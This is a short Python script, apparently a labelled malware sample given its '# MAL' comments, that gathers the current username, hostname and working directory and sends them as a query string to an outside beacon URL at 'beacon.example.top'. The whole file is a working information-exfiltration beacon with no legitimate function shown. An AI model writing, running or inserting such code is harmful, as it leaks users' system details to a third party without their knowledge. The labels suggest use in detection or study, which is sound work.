import getpass
import platform
import socket
import urllib.request
import urllib.parse

info = {
    "user": getpass.getuser(),  # MAL
    "host": platform.node(),  # MAL
    "cwd": __import__("os").getcwd(),
}
q = urllib.parse.urlencode(info)
urllib.request.urlopen("http://beacon.example.top/ping?" + q)  # MAL
